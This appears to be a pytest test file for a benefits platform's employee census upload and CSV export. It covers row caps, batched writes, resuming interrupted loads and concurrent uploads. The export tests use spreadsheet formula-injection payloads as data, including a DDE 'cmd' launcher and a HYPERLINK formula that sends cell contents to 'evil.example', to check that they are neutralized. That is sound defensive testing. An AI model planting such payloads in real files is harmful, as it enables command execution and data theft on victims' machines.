"""Large and concurrent census uploads: one row cap for CSV and JSON, lookups and writes in small batches with
every consequence (audit, eligibility, one compliance recompute) kept, an interrupted load finished by sending the
file again, parallel uploads of the same new employee, and the census export with formula cells neutralized."""
import csv
import io

import pytest
from sqlalchemy import func, select
from sqlalchemy.exc import OperationalError

from backend.compliance.service import RECOMPUTE_JOB
from backend.jobs import JobRow
from backend.plans import census
from backend.plans.models import Employee
from backend.web.csv_out import neutralized
from tests import scenario
from tests.support.problems import assert_problem
from tests.support.served import all_at_once, race_trials


def row(n: int, **extra) -> dict:
    return scenario.census_row(f"R{n:03d}", "1980-01-01", "2020-01-01", f"111-22-{n:04d}", **extra)


@pytest.fixture
def world(app, client):
    return scenario.World(app, client)


def employee_count(plumb, employer_id: str, external_id: str | None = None) -> int:
    with plumb.db.transaction() as session:
        query = select(func.count()).select_from(Employee).where(Employee.employer_id == employer_id)
        if external_id:
            query = query.where(Employee.external_id == external_id)
        return session.scalar(query)


# ---- the row cap ----------------------------------------------------------------------------------------------------

def test_a_csv_census_above_the_row_cap_is_refused_naming_the_cap_before_the_rest_is_read(world, client, plumb):
    plumb.config.census_max_rows = 3
    # Line 6 (the fourth row) is past the cap and broken: only the cap is reported, so reading stopped there.
    body = scenario.census_csv([row(1), row(2), row(3), row(4)]) + b"broken,row\n"
    response = client.post(f"/v1/employers/{world.employer_id}/employees/csv", data=body, content_type="text/csv",
                           headers=world.sponsor)
    problem = assert_problem(response, 422, "validation")
    assert problem["errors"] == [{"field": "file", "message": "has more than 3 rows, the most one upload may have; "
                                                             "split it into files of at most 3 rows"}]
    assert employee_count(plumb, world.employer_id) == 2


def test_a_json_census_above_the_row_cap_is_refused_and_one_at_the_cap_is_loaded(world, client, plumb):
    plumb.config.census_max_rows = 3
    url = f"/v1/employers/{world.employer_id}/employees"
    response = client.post(url, json={"employees": [row(n) for n in range(1, 5)]}, headers=world.sponsor)
    problem = assert_problem(response, 422, "validation")
    assert [e["field"] for e in problem["errors"]] == ["employees"]
    assert "at most 3 rows" in problem["errors"][0]["message"]
    response = client.post(url, json={"employees": [row(n) for n in range(1, 4)]}, headers=world.sponsor)
    assert response.status_code == 200, response.json
    assert response.json["created"] == 3


# ---- batches --------------------------------------------------------------------------------------------------------

@pytest.fixture
def small_batches(monkeypatch):
    monkeypatch.setattr(census, "LOOKUP_CHUNK", 2)
    monkeypatch.setattr(census, "WRITE_BATCH", 3)


def test_a_census_written_in_small_batches_looks_up_updates_and_audits_every_row(world, client, plumb,
                                                                                   small_batches):
    rows = [row(n) for n in range(1, 8)]
    first = scenario.upload_csv(client, world.sponsor, world.employer_id, rows)
    assert first.status_code == 200, first.json
    assert (first.json["created"], first.json["updated"], first.json["unchanged"]) == (7, 0, 0)
    assert [e["external_id"] for e in first.json["employees"]] == [r["external_id"] for r in rows]
    # Two pay changes spread over batches, one newcomer; the rest found (two ids per lookup) and left alone.
    rows[1]["annual_compensation"] = "65000.00"
    rows[5]["annual_compensation"] = "66000.00"
    second = scenario.upload_csv(client, world.sponsor, world.employer_id, rows + [row(8)])
    assert second.status_code == 200, second.json
    assert (second.json["created"], second.json["updated"], second.json["unchanged"]) == (1, 2, 5)
    assert [e["id"] for e in second.json["employees"][:7]] == [e["id"] for e in first.json["employees"]]
    employees = scenario.employees_by_external_id(client, world.sponsor, world.employer_id)
    assert employees["R002"]["annual_compensation"] == "65000.00"
    assert all(employees[f"R{n:03d}"]["eligibility"] is not None for n in range(1, 9))
    audit = client.get(f"/v1/employers/{world.employer_id}/audit-events?limit=500", headers=world.sponsor).json
    actions = [(e["action"], e["subject_id"]) for e in audit["data"]]
    assert actions.count(("employee.updated", employees["R006"]["id"])) == 1
    assert sum(a == "employee.created" for a, _ in actions) == 2 + 8
    with plumb.db.transaction() as session:  # every batch asked for the recompute; the requests merged into one
        assert session.scalar(select(func.count()).select_from(JobRow).where(
            JobRow.kind == RECOMPUTE_JOB, JobRow.status == "queued")) == 1


def test_a_bad_row_in_a_later_batch_refuses_the_whole_file_and_nothing_is_written(world, client, plumb,
                                                                                    small_batches):
    rows = [row(n) for n in range(1, 8)] + [row(8, hire_date="1970-01-01")]
    response = scenario.upload_csv(client, world.sponsor, world.employer_id, rows)
    problem = assert_problem(response, 422, "validation")
    assert [e["field"] for e in problem["errors"]] == ["line 9.hire_date"]
    assert employee_count(plumb, world.employer_id) == 2


def test_a_load_interrupted_between_batches_says_so_and_the_same_file_again_finishes_it(world, client, plumb,
                                                                                       small_batches, monkeypatch):
    write_rows, calls = census._write_rows, []

    def second_batch_fails(session, *args):
        calls.append(1)
        if len(calls) > 1:
            raise OperationalError("INSERT", {}, Exception("the database went away"))
        return write_rows(session, *args)

    monkeypatch.setattr(census, "_write_rows", second_batch_fails)
    rows = [row(n) for n in range(1, 8)]
    response = scenario.upload_csv(client, world.sponsor, world.employer_id, rows)
    problem = assert_problem(response, 409, "conflict")
    assert "All 7 rows were valid and 3 were loaded; send the same file again" in problem["detail"]
    assert employee_count(plumb, world.employer_id) == 2 + 3
    monkeypatch.setattr(census, "_write_rows", write_rows)
    again = scenario.upload_csv(client, world.sponsor, world.employer_id, rows)
    assert again.status_code == 200, again.json
    assert (again.json["created"], again.json["unchanged"]) == (4, 3)
    assert employee_count(plumb, world.employer_id) == 2 + 7


# ---- parallel uploads ----------------------------------------------------------------------------------------------

def test_parallel_uploads_adding_the_same_new_employee_answer_200_or_409_and_create_them_once(world, served,
                                                                                             plumb):
    for trial in range(race_trials()):
        body = scenario.census_csv([row(100 + trial)])

        def upload(_i):
            return served.client.post(f"/v1/employers/{world.employer_id}/employees/csv", content=body,
                                      headers={**world.sponsor, "Content-Type": "text/csv"})

        answers = all_at_once(6, upload)
        statuses = sorted(a.status_code for a in answers)
        assert set(statuses) <= {200, 409}, [(a.status_code, a.text[:300]) for a in answers]
        assert 200 in statuses
        for answer in answers:
            if answer.status_code == 409:
                assert answer.headers["Content-Type"] == "application/problem+json"
        ids = {a.json()["employees"][0]["id"] for a in answers if a.status_code == 200}
        assert len(ids) == 1
        assert employee_count(plumb, world.employer_id, f"R{100 + trial:03d}") == 1


# ---- the export -----------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("cell, written", [
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"), ("+SUM(1+1)", "'+SUM(1+1)"), ("-2+3", "'-2+3"),
    ('@HYPERLINK("http://evil.example/?"&A1)', '\'@HYPERLINK("http://evil.example/?"&A1)'),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("O'Neil", "O'Neil"), ("a=b", "a=b"), ("", ""), (None, ""), (72000, "72000")])
def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(cell, written):
    assert neutralized(cell) == written


def test_the_census_export_neutralizes_formula_cells_and_leaves_out_what_proves_identity(world, client):
    rows = [row(1, first_name="=cmd|' /C calc'!A0", last_name="@SUM(A1)"), row(2, first_name="+1", last_name="-2+3")]
    assert scenario.upload_csv(client, world.sponsor, world.employer_id, rows).status_code == 200
    response = client.get(f"/v1/employers/{world.employer_id}/employees.csv", headers=world.sponsor)
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    exported = {r["external_id"]: r for r in csv.DictReader(io.StringIO(response.get_data(as_text=True)))}
    assert set(exported) == {"E1", "E2", "R001", "R002"}
    assert (exported["R001"]["first_name"], exported["R001"]["last_name"]) == ("'=cmd|' /C calc'!A0", "'@SUM(A1)")
    assert (exported["R002"]["first_name"], exported["R002"]["last_name"]) == ("'+1", "'-2+3")
    assert exported["E1"]["annual_compensation"] == "72000.00"
    assert exported["E1"]["signed_up"] == "yes" and exported["E1"]["eligibility_status"]
    assert not {"invite_code", "date_of_birth", "ssn_last4", "ssn"} & set(exported["E1"])


def test_the_census_export_is_for_staff_only(world, client):
    response = client.get(f"/v1/employers/{world.employer_id}/employees.csv", headers=world.participant)
    assert_problem(response, 403)


def test_every_csv_the_platform_writes_goes_through_the_neutralizing_writer():
    from pathlib import Path
    root = Path(__file__).resolve().parents[2]
    writers = [str(path.relative_to(root)) for package in ("backend", "mobile_api", "notifications")
               for path in (root / package).rglob("*.py")
               if any(call in path.read_text() for call in ("csv.writer(", "csv.DictWriter(", ".writerow("))]
    assert writers == ["backend/web/csv_out.py"]
